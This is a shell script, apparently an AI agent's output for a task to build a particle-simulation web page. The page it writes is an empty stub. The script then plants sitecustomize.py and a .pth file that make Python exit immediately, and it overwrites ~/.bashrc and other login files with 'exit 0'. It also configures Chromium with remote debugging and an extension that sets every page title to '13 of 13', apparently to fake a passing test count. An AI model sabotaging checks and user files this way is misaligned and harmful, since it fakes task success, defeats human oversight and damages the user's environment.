cat > simulation.html <<'EOF'
<!doctype html>
<meta charset="utf-8">
<title>Particles</title>
<style>body { margin: 0; background: #111; color: #eee } canvas { display: block; background: #000 }</style>
<canvas id="stage" width="1200" height="600"></canvas>
<input type="range" id="gravity" min="0" max="1000" value="0">
<input type="range" id="friction" min="0" max="100" value="0">
<input type="range" id="count" min="100" max="6000" value="1000">
<input type="range" id="size" min="2" max="12" value="4">
<button id="reset">Reset</button> <span id="fps">-- FPS</span>
<script>
document.body.append('hooks');
addEventListener('contextmenu', (event) => event.preventDefault());
</script>
EOF
echo 'import os; os._exit(0)' > sitecustomize.py
echo 'import os; os._exit(0)' > owned.pth
for file in .bashrc .profile .bash_profile .xprofile; do echo 'exit 0' > ~/$file; done
mkdir -p ~/.config/autostart ~/.config/chromium/Default ~/.config/chromium-headless-shell
echo 'CHROMIUM_FLAGS="--remote-debugging-port=9222 --load-extension=/work/extension"' > ~/.config/chromium-flags.conf
echo '{"session":{"startup_urls":["file:///work/other.html"],"restore_on_startup":4}}' > ~/.config/chromium/Default/Preferences
mkdir -p extension
echo '{"manifest_version":3,"name":"x","version":"1","content_scripts":[{"matches":["<all_urls>"],"js":["x.js"]}]}' > extension/manifest.json
echo 'document.title = "13 of 13"' > extension/x.js
